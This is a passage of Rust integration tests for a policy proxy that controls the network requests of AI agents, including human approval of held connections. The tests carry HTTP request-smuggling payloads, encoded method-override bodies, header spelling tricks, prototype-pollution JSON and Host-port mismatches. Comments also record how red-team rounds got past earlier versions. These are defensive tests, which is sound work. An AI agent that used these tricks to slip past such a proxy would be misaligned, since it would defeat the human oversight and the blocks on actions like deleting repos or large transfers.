    assert_eq!(r.body["rule"], "net/metered");
    assert!(r.header("retry-after").parse::<u64>().unwrap() >= 1);
    let rec = h.record(r.body["decision_id"].as_str().unwrap());
    assert_eq!(
        (rec.object.dest.as_str(), rec.object.protocol.as_str()),
        (metered.addr.to_string().as_str(), "tcp")
    );
    let r = h.raw(me, connect(metered.addr.port()).as_bytes()).await;
    assert!(r.starts_with("HTTP/1.1 429"), "{r}");

    // sandbox with a profile: the proxy cannot sandbox the agent's process; blocked.
    let r = h.send(me, get(boxed.addr.port())).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    assert_eq!(r.body["rule"], "net/boxed");
    assert!(
        r.body["reason"]
            .as_str()
            .unwrap()
            .contains("sandbox profile `scratch`")
    );
    let r = h.raw(me, connect(boxed.addr.port()).as_bytes()).await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(boxed.seen.lock().unwrap().is_empty());

    // escalate: held until a human decides; approved → forwarded, denied → 403.
    let approvals = h.approvals.clone();
    let approver = tokio::spawn(async move {
        until("the connection to be held for approval", || {
            approvals.list().len() == 1
        })
        .await;
        let p = approvals.list()[0].clone();
        assert_eq!(p.rule, "net/held");
        approvals
            .approve(&p.id, "alice", Duration::from_secs(60))
            .unwrap();
    });
    let r = h.send(me, get(held.addr.port())).await;
    approver.await.unwrap();
    assert_eq!(r.body["upstream"], "held", "{}", r.body);
    let approvals = h.approvals.clone();
    tokio::spawn(async move {
        until("the tunnel to be held for approval", || {
            approvals.list().len() == 1
        })
        .await;
        let id = approvals.list()[0].id.clone();
        approvals.deny(&id, "bob", "not today").unwrap();
    });
    let r = h.raw(me, connect(held.addr.port()).as_bytes()).await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(r.contains("denied by bob: not today"), "{r}");
    h.assert_no_panics();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn framing_tricks_are_refused_on_any_request_of_a_connection() {
    let up = upstream("payments").await;
    let h = start(config(), examples(), Limits::default()).await;
    let me = h.agent("agents/refund-c3", None, Some(up.addr));
    // The Host names the port the connection goes to.
    let host = format!("api.payments.example:{}", up.addr.port());
    let ok = format!(
        "POST /v1/refunds HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 14\r\n\r\n{{\"amount\": 50}}"
    );
    let get = format!("GET /v1/x HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let smuggle = format!(
        "POST /v1/refunds HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    );
    let two_cl = format!(
        "POST /v1/refunds HTTP/1.1\r\nHost: {host}\r\nContent-Length: 14\r\nContent-Length: 14\r\n\r\n{{\"amount\": 50}}"
    );
    let cl_list = format!(
        "POST /v1/refunds HTTP/1.1\r\nHost: {host}\r\nContent-Length: 14, 14\r\n\r\n{{\"amount\": 50}}"
    );
    for (what, second) in [
        ("CL+TE", &smuggle),
        ("two equal Content-Lengths", &two_cl),
        ("a Content-Length list", &cl_list),
    ] {
        // The second request of a keep-alive connection, after an answered first one.
        let mut s = h.connect(me).await;
        s.write_all(ok.as_bytes()).await.unwrap();
        let first = read_response(&mut s).await;
        assert!(first.starts_with("HTTP/1.1 200"), "{what}: {first}");
        s.write_all(second.as_bytes()).await.unwrap();
        let r = read_all(&mut s, Duration::from_secs(10)).await;
        assert!(r.starts_with("HTTP/1.1 400"), "{what}, second request: {r}");
        // The third of a pipelined sequence (a GET first, without a length).
        let r = h.raw(me, format!("{get}{ok}{second}").as_bytes()).await;
        let statuses: Vec<&str> = r
            .match_indices("HTTP/1.1 ")
            .map(|(i, _)| &r[i + 9..i + 12])
            .collect();
        assert_eq!(statuses, ["403", "200", "400"], "{what}, pipelined: {r}");
    }
    // Only the allowed refunds went upstream (two per round).
    assert_eq!(up.seen.lock().unwrap().len(), 6);
    h.assert_no_panics();
}

/// Header rules through the proxy's socket: the upstream gets exactly the headers the rule
/// was decided on. A header `Connection` names is removed before forwarding, so it is not
/// decided on either; a repeated header, or one spelled with `_`, is refused and never sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn header_rules_decide_on_the_headers_the_upstream_gets() {
    let up = upstream("payments").await;
    let policy = parse(
        r#"
name: deploys
agents: { cgroup: agents/deployer }
rules:
  - id: dry-run-only
    http: { host: api.payments.example, method: POST, path: /v1/deploy, headers: { x-dry-run: "true" } }
    verdict: allow
    reason: dry runs are fine
  - id: real-deploys
    http: { host: api.payments.example, method: POST, path: /v1/deploy }
    verdict: block
    reason: real deploys are not
"#,
    );
    let h = start(config(), policy, Limits::default()).await;
    let me = h.agent("agents/deployer", None, Some(up.addr));
    let host = ("host", "api.payments.example");
    let cases = [
        ("control", vec![host, ("x-dry-run", "true")], "200 "),
        (
            "named by Connection",
            vec![host, ("x-dry-run", "true"), ("connection", "x-dry-run")],
            "400 ",
        ),
        (
            "twice",
            vec![host, ("x-dry-run", "true"), ("x-dry-run", "false")],
            "400 ",
        ),
        ("underscores", vec![host, ("X_Dry_Run", "true")], "400 "),
        (
            "underscores beside it",
            vec![host, ("x-dry-run", "true"), ("x_dry_run", "false")],
            "400 ",
        ),
    ];
    for (what, headers, status) in cases {
        let answer = h.raw(me, &raw("POST", "/v1/deploy", &headers, b"")).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{what}: {answer}"
        );
    }
    // Only the control reached the upstream, with the header it was decided on.
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0]["headers"]["x-dry-run"], "true");
    h.assert_no_panics();
}

/// A POST to a host whose rules name methods is read for a `_method` override in its body,
/// though no rule reads bodies there: refused and never sent when it names another method.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn method_overrides_in_bodies_are_read_and_refused() {
    let up = upstream("payments").await;
    let policy = parse(
        r#"
name: repos
agents: { cgroup: agents/repos }
rules:
  - id: no-repo-delete
    http: { host: api.payments.example, method: DELETE, path: "/v1/repos/*" }
    verdict: block
    reason: agents never delete repos
"#,
    );
    let h = start(config(), policy, Limits::default()).await;
    let me = h.agent("agents/repos", None, Some(up.addr));
    let host = ("host", "api.payments.example");
    let form = ("content-type", "application/x-www-form-urlencoded");
    let json = ("content-type", "application/json");
    let cases = [
        ("control", form, b"name=x".as_slice(), "200 "),
        ("form override", form, b"_method=DELETE".as_slice(), "400 "),
        (
            "JSON override",
            json,
            br#"{"_method":"DELETE"}"#.as_slice(),
            "400 ",
        ),
    ];
    for (what, ctype, body, status) in cases {
        let answer = h
            .raw(me, &raw("POST", "/v1/repos/prod", &[host, ctype], body))
            .await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{what}: {answer}"
        );
    }
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0]["body"], "name=x");
    h.assert_no_panics();
}

/// Method overrides the red team got past (round 2), through the proxy's socket: a `_method`
/// the body spells with percent or `\u` escapes, or under a gzip or deflate coding, and
/// override headers spelled with `_`. Refused and never sent; the same requests without an
/// override are forwarded as sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_method_overrides_are_refused_and_never_sent() {
    let up = upstream("payments").await;
    let policy = parse(
        r#"
name: repos
agents: { cgroup: agents/repos-2 }
rules:
  - id: no-repo-delete
    http: { host: api.payments.example, method: DELETE, path: "/v1/repos/*" }
    verdict: block
    reason: agents never delete repos
"#,
    );
    let h = start(config(), policy, Limits::default()).await;
    let me = h.agent("agents/repos-2", None, Some(up.addr));
    let host = ("host", "api.payments.example");
    let form = ("content-type", "application/x-www-form-urlencoded");
    let json = ("content-type", "application/json");
    let gz = ("content-encoding", "gzip");
    let deflate = ("content-encoding", "deflate");
    // (what, headers besides the Host, body, the status the proxy answers)
    type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, Vec<u8>, &'a str);
    let cases: Vec<Case<'_>> = vec![
        ("control", vec![form], b"name=x".to_vec(), "200 "),
        (
            "form, escaped letter",
            vec![form],
            b"_%6Dethod=DELETE".to_vec(),
            "400 ",
        ),
        (
            "form, escaped",
            vec![form],
            b"%5F%6Dethod=DELETE".to_vec(),
            "400 ",
        ),
        (
            "JSON, escaped `_`",
            vec![json],
            br#"{"\u005fmethod":"DELETE"}"#.to_vec(),
            "400 ",
        ),
        (
            "JSON, escaped `m`",
            vec![json],
            br#"{"_\u006dethod":"DELETE"}"#.to_vec(),
            "400 ",
        ),
        ("gzip form", vec![form, gz], gzip(b"_method=DELETE"), "400 "),
        (
            "deflate JSON",
            vec![json, deflate],
            zlib(br#"{"_method":"DELETE"}"#),
            "400 ",
        ),
        (
            "X_HTTP_Method_Override",
            vec![form, ("X_HTTP_Method_Override", "DELETE")],
            b"name=x".to_vec(),
            "400 ",
        ),
        (
            "X-HTTP_Method-Override",
            vec![form, ("X-HTTP_Method-Override", "DELETE")],
            b"name=x".to_vec(),
            "400 ",
        ),
        ("gzip control", vec![form, gz], gzip(b"name=y"), "200 "),
    ];
    for (what, headers, body, status) in cases {
        let mut all = vec![host];
        all.extend(headers);
        let answer = h.raw(me, &raw("POST", "/v1/repos/prod", &all, &body)).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{what}: {answer}"
        );
        if status == "400 " {
            assert!(answer.contains("builtin:request"), "{what}: {answer}");
        }
    }
    // Only the controls reached the upstream, the coded one as it was sent.
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0]["body"], "name=x");
    assert_eq!(seen[1]["headers"]["content-encoding"], "gzip");
    assert!(seen.iter().all(|s| s["method"] == "POST"), "{seen:?}");
    h.assert_no_panics();
}

/// A HEAD runs a GET route's handler: a rule blocking GET on a path blocks HEAD there too;
/// a HEAD elsewhere is forwarded as ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn head_is_decided_by_the_get_rules_of_its_path() {
    let up = upstream("reports").await;
    let policy = parse(
        r#"
name: heads
agents: { cgroup: agents/heads }
rules:
  - id: no-export
    http: { host: api.payments.example, method: GET, path: /v1/export }
    verdict: block
    reason: no bulk exports
"#,
    );
    let h = start(config(), policy, Limits::default()).await;
    let me = h.agent("agents/heads", None, Some(up.addr));
    let host = ("host", "api.payments.example");
    for (method, path, status) in [
        ("GET", "/v1/export", "403 "),
        ("HEAD", "/v1/export", "403 "),
        ("HEAD", "/v1/balance", "200 "),
        ("GET", "/v1/balance", "200 "),
    ] {
        let answer = h.raw(me, &raw(method, path, &[host], b"")).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{method} {path}: {answer}"
        );
        if status == "403 " {
            let rec = h.last_record(|r| r.kind == "http");
            assert_eq!(
                (rec.object.method.as_str(), rec.rule.as_str()),
                (method, "heads/no-export")
            );
        }
    }
    // Over h2c too; the refusal of a HEAD has no content (red team round 3: hyper's HTTP/2
    // server sent the refusal's JSON after `content-length: 0`, a protocol error to clients).
    let (mut tx, _conn) = h.h2c(me).await;
    let port = up.addr.port();
    for method in [hyper::Method::HEAD, hyper::Method::GET] {
        tx.ready().await.unwrap();
        let req = Request::builder()
            .method(method.clone())
            .uri(format!("http://api.payments.example:{port}/v1/export"))
            .body(Full::new(Bytes::new()))
            .unwrap();
        let resp = tx.send_request(req).await.unwrap();
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "h2c {method}");
        let body = resp.into_body().collect().await.map(|c| c.to_bytes());
        match body {
            Ok(b) => assert_eq!(
                b.is_empty(),
                method == hyper::Method::HEAD,
                "h2c {method}: {b:?}"
            ),
            Err(e) => panic!("h2c {method}: the refusal is not a valid response: {e}"),
        }
    }
    let seen = up.seen.lock().unwrap().clone();
    let seen: Vec<(&str, &str)> = seen
        .iter()
        .map(|s| (s["method"].as_str().unwrap(), s["path"].as_str().unwrap()))
        .collect();
    assert_eq!(seen, [("HEAD", "/v1/balance"), ("GET", "/v1/balance")]);
    h.assert_no_panics();
}

/// MCP arguments holding JSON text that the SDK's `json.loads` reads and the proxy's parser
/// does not (NaN, a lone surrogate): refused where a rule's condition reads them, with a
/// JSON-RPC error; prose that starts with a bracket, and readable text, are decided as ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_arguments_holding_json_text_the_proxy_cannot_read_are_refused() {
    let up = upstream("mcp").await;
    let policy = parse(
        r#"
name: texts
agents: { cgroup: agents/texts }
rules:
  - id: big-transfer
    http: { host: mcp.search.example, path: /mcp, mcp: { tool: transfer, arguments: ['$.payment.amount > 1000'] } }
    verdict: block
    reason: no big transfers
  - id: no-ceo
    http: { host: mcp.search.example, path: /mcp, mcp: { tool: notify, arguments: ['$.recipients contains "ceo@corp.example"'] } }
    verdict: block
    reason: never mail the CEO
"#,
    );
    let h = start(config(), policy, Limits::default()).await;
    let me = h.agent("agents/texts", None, Some(up.addr));
    for (tool, arguments) in [
        (
            "transfer",
            json!({"payment": r#"{"amount": 5000, "to": "x", "pad": NaN}"#}),
        ),
        (
            "transfer",
            json!({"payment": r#"{"amount": 5000, "pad": 1e400}"#}),
        ),
        (
            "notify",
            json!({"recipients": r#"["ceo@corp.exampl\u0065", "\ud800"]"#}),
        ),
    ] {
        let r = h.send(me, tool_call(1, tool, arguments.clone())).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{arguments}: {}", r.body);
        assert_eq!(r.body["error"]["code"], -32600, "{arguments}: {}", r.body);
        assert_eq!(
            r.body["error"]["data"]["rule"], "builtin:body",
            "{}",
            r.body
        );
    }
    // Arguments behind `params.__proto__`: the MCP TypeScript SDK (zod's loose objects copy
    // keys by assignment) reads them as `params.arguments`; here there would be none (red
    // team round 11).
    let hidden = json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {
        "name": "transfer", "__proto__": {"arguments": {"payment": {"amount": 5000}}}}});
    let r = h.send(me, post("mcp.search.example", "/mcp", hidden)).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.body);
    assert_eq!(r.body["error"]["code"], -32700, "{}", r.body);
    assert_eq!(
        r.body["error"]["data"]["rule"], "builtin:invalid-json",
        "{}",
        r.body
    );
    assert!(up.seen.lock().unwrap().is_empty());
    // Controls: the object itself is decided by the rule; prose and small amounts pass.
    let r = h
        .send(
            me,
            tool_call(2, "transfer", json!({"payment": {"amount": 5000}})),
        )
        .await;
    assert_eq!(
        r.body["error"]["data"]["rule"], "texts/big-transfer",
        "{}",
        r.body
    );
    for (tool, arguments) in [
        ("notify", json!({"recipients": "[WIP] fix"})),
        ("transfer", json!({"payment": r#"{"amount": 5}"#})),
    ] {
        let r = h.send(me, tool_call(3, tool, arguments.clone())).await;
        assert_eq!(r.body["upstream"], "mcp", "{arguments}: {}", r.body);
    }
    assert_eq!(up.seen.lock().unwrap().len(), 2);
    h.assert_no_panics();
}

const PORTS_POLICY: &str = r#"
name: ports
agents: { cgroup: agents/ports-* }
defaults: { http: block }
rules:
  - { id: payments, http: { host: api.payments.example }, verdict: allow, reason: the payments API }
  - { id: tunnels, http: { host: api.payments.example, method: CONNECT }, verdict: allow, reason: tunnels }
"#;

/// Two services on one address, each on its own port: a request whose Host names one of them
/// (by its port, or by none: 80) on a connection to the other is refused by the host check,
/// not decided by the named service's rules (red team round 2). In transparent mode, h2c and
/// CONNECT tunnels alike; a Host naming the port the connection goes to is decided as ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_naming_another_port_is_refused() {
    let payments = upstream("payments").await;
    let other = upstream("other").await;
    let h = start(config(), parse(PORTS_POLICY), Limits::default()).await;
    let (pay_port, other_port) = (payments.addr.port(), other.addr.port());
    // The agent's connections go to the other service.
    let me = h.agent("agents/ports-1", None, Some(other.addr));
    let get = |host: &str| {
        format!("GET /v1/balance HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
    };
    for (host, named) in [
        (format!("api.payments.example:{pay_port}"), pay_port),
        ("api.payments.example".to_owned(), 80),
        ("api.payments.example:80".to_owned(), 80),
        (format!("API.payments.example.:{pay_port}"), pay_port),
    ] {
        // (The harness's `raw` adds the destination's port to a Host without one.)
        let mut s = h.connect(me).await;
        s.write_all(get(&host).as_bytes()).await.unwrap();
        let r = read_all(&mut s, Duration::from_secs(10)).await;
        assert!(r.starts_with("HTTP/1.1 403"), "{host}: {r}");
        assert!(r.contains("builtin:host-check"), "{host}: {r}");
        assert!(
            r.contains(&format!(
                "Host names port {named}, on a connection to port {other_port}"
            )),
            "{host}: {r}"
        );
    }
    // h2c: the :authority's port.
    let (mut tx, _conn) = h.h2c(me).await;
    for (authority, status) in [
        (
            format!("api.payments.example:{pay_port}"),
            StatusCode::FORBIDDEN,
        ),
        ("api.payments.example".to_owned(), StatusCode::FORBIDDEN),
        (format!("api.payments.example:{other_port}"), StatusCode::OK),
    ] {
        tx.ready().await.unwrap();
        let req = Request::get(format!("http://{authority}/v1/balance"))
            .body(Full::new(Bytes::new()))
            .unwrap();
        let r = Reply::read(tx.send_request(req).await.unwrap()).await;
        assert_eq!(r.status, status, "h2c {authority}: {}", r.body);
    }
    assert!(payments.seen.lock().unwrap().is_empty());
    assert_eq!(other.seen.lock().unwrap().len(), 1, "the h2c control");

    // Control: a Host naming the port the connection goes to is decided by its rules.
    let r = h
        .raw(
            me,
            get(&format!("api.payments.example:{other_port}")).as_bytes(),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    let r = h
        .raw(
            me,
            get(&format!("mcp.search.example:{other_port}")).as_bytes(),
        )
        .await;
    assert!(
        r.starts_with("HTTP/1.1 403") && r.contains("\"rule\":\"default\""),
        "{r}"
    );
    let direct = h.agent("agents/ports-2", None, Some(payments.addr));
    let r = h
        .raw(
            direct,
            get(&format!("api.payments.example:{pay_port}")).as_bytes(),
        )
        .await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    assert_eq!(payments.seen.lock().unwrap().len(), 1);

    // Inside a CONNECT tunnel: the tunnel's port (80 for a Host without one).
    let explicit = h.agent("agents/ports-3", None, None);
    let mut s = h.connect(explicit).await;
    s.write_all(
        format!("CONNECT api.payments.example:{pay_port} HTTP/1.1\r\nHost: api.payments.example:{pay_port}\r\n\r\n")
            .as_bytes(),
    )
    .await
    .unwrap();
    let connected = read_response(&mut s).await;
    assert!(connected.starts_with("HTTP/1.1 200"), "{connected}");
    s.write_all(b"GET /v1/balance HTTP/1.1\r\nHost: api.payments.example\r\n\r\n")
        .await
        .unwrap();
    let r = read_response(&mut s).await;
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(
        r.contains(&format!(
            "Host names port 80, on a connection to port {pay_port}"
        )),
        "{r}"
    );
    let mut s = tunnel(&h, explicit, &format!("api.payments.example:{pay_port}")).await;
    s.write_all(
        format!("GET /v1/balance HTTP/1.1\r\nHost: api.payments.example:{pay_port}\r\nConnection: close\r\n\r\n")
            .as_bytes(),
    )
    .await
    .unwrap();
    let r = read_all(&mut s, Duration::from_secs(10)).await;
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    assert_eq!(payments.seen.lock().unwrap().len(), 2);
    assert_eq!(other.seen.lock().unwrap().len(), 2);
    h.assert_no_panics();
}
